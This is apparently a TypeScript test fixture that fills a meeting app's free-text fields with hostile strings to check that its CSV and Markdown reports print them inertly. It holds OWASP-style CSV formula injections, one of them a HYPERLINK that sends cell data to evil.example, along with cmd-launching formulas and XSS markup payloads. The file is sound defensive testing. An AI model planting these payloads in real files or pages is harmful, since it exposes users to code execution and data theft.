import { CA_MAU_2021_CENTRAL_POINT_ID, caMau2021Commands } from '../../shared/demo/caMau2021.js';
import { decide, emptyState, evolve, type MeetingState } from '../../shared/meeting/index.js';
import { entryOf } from '../../shared/meeting/buckets.js';
import type { Command, MeetingEvent, Principal } from '../../shared/protocol/index.js';

// A meeting whose every free-text field that reaches a report was typed by an attacker: the
// clerk's own name (a join link's label), an imported invitation list, a walk-in, a substitute,
// an excuse, a point's floor request (delegate, position, topic), a new point, a panel member,
// a minutes note. The reports of it must print the text, never run it (finding 1: spreadsheet
// formulas in CSV; finding 2: HTML and links in the Markdown minutes).

/** Formula payloads from OWASP's CSV injection page, one per trigger character. */
export const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1;=2+2',
];

/** Markup payloads: raw HTML, script, links and images that a Markdown renderer would honour. */
export const MARKUP = [
  '<img src=x onerror=alert(1)>',
  '<script>alert("xss")</script>',
  '[bấm đây](javascript:alert(1))',
  '![ảnh](http://evil.example/t.png)',
  '<a href="javascript:alert(2)">liên kết</a>',
  'http://evil.example/tự-động-thành-liên-kết',
  '`mã` **đậm** _nghiêng_ | ô | bảng\\|',
  '&lt;b&gt;thực thể&lt;/b&gt; &amp; &#x3C;i&#x3E;',
];

/** A note whose lines would each start a block of their own: heading, list, HTML, quote. */
export const MULTILINE_NOTE = 'Ghi chú\n# Tiêu đề giả mạo\n- mục giả\n<script>alert(3)</script>\n1. danh sách\n    mã thụt lề';

const HOSTILE = [...FORMULAS, ...MARKUP];
const pick = (i: number): string => HOSTILE[i % HOSTILE.length] ?? '=1';

const T = Date.UTC(2021, 0, 4, 0, 30);

export interface HostileMeeting {
  events: MeetingEvent[];
  state: MeetingState;
  /** Every hostile string the meeting holds, as typed. */
  strings: string[];
}

export function hostileMeeting(): HostileMeeting {
  let state = emptyState();
  const events: MeetingEvent[] = [];
  let n = 0;
  let t = T - 3600_000;
  const run = (principal: Principal, command: Command): MeetingEvent[] => {
    const r = decide(state, command, { principal, now: (t += 1000), newId: () => `h${++n}` });
    if (!r.ok) throw new Error(`hostile ${command.type} refused: ${r.code} ${r.message}`);
    for (const e of r.events) state = evolve(state, e);
    events.push(...r.events);
    return r.events;
  };
  const admin: Principal = { role: 'admin', name: pick(0) };
  const chair: Principal = { role: 'chair', name: pick(5) };
  const clerk: Principal = { role: 'clerk', name: pick(1) };
  const system: Principal = { role: 'system' };

  for (const c of caMau2021Commands()) run(admin, c);
  run(admin, { type: 'addPoint', id: 'p-hostile', name: pick(2), kind: 'district' });
  run(admin, { type: 'addPanelMember', id: 'pm-hostile', name: pick(7), position: pick(2), organisation: pick(8) });
  run(admin, {
    type: 'importInvitationList',
    mode: 'append',
    rows: HOSTILE.map((s, i) => ({ line: i + 2, name: s, position: pick(i + 1), organisation: pick(i + 2), point: 'p-hostile' })),
  });
  const point: Principal = { role: 'point', pointId: 'p-hostile' };
  run(chair, { type: 'setConferenceStatus', status: 'rollCall' });
  run(system, { type: 'pointOnline', pointId: 'p-hostile' });
  const ids = state.attendeeOrder.filter((id) => entryOf(state.attendees, id)?.pointId === 'p-hostile');
  ids.forEach((id, i) => {
    const mark =
      i % 3 === 0
        ? ({ status: 'excused', reason: pick(i + 3) } as const)
        : i % 3 === 1
          ? ({ status: 'substitute', substituteName: pick(i + 4), substitutePosition: pick(i + 5) } as const)
          : ({ status: 'present' } as const);
    run(clerk, { type: 'markAttendance', attendeeId: id, mark });
  });
  const org = state.organisationOrder[0];
  if (!org) throw new Error('no organisation');
  HOSTILE.forEach((s, i) => run(clerk, { type: 'addWalkIn', id: `walk-${i}`, pointId: CA_MAU_2021_CENTRAL_POINT_ID, organisationId: org, name: s, position: pick(i + 6) }));
  run(chair, { type: 'setConferenceStatus', status: 'inSession' });
  run(chair, { type: 'startAgenda' });
  run(chair, { type: 'nextAgendaStep' });
  run(chair, { type: 'nextAgendaStep' });
  HOSTILE.forEach((s, i) => {
    run(point, { type: 'requestFloor', id: `req-${i}`, pointId: 'p-hostile', delegateName: pick(i + 7), delegatePosition: pick(i + 8), topic: s, kind: 'contribution' });
    run(chair, { type: 'grantFloor', requestId: `req-${i}`, speechId: `speech-${i}` });
    run(chair, { type: 'endSpeech', speechId: `speech-${i}` });
  });
  HOSTILE.forEach((s, i) => run(clerk, { type: 'addMinutesNote', id: `note-${i}`, text: s }));
  run(clerk, { type: 'addMinutesNote', id: 'note-lines', text: MULTILINE_NOTE });
  run(chair, { type: 'startDirectiveSpeech', id: 'speech-directive', memberId: 'pm-hostile', topic: pick(9) });
  run(chair, { type: 'endSpeech', speechId: 'speech-directive' });
  run(chair, { type: 'setConferenceStatus', status: 'adjourned' });
  return { events, state, strings: HOSTILE };
}
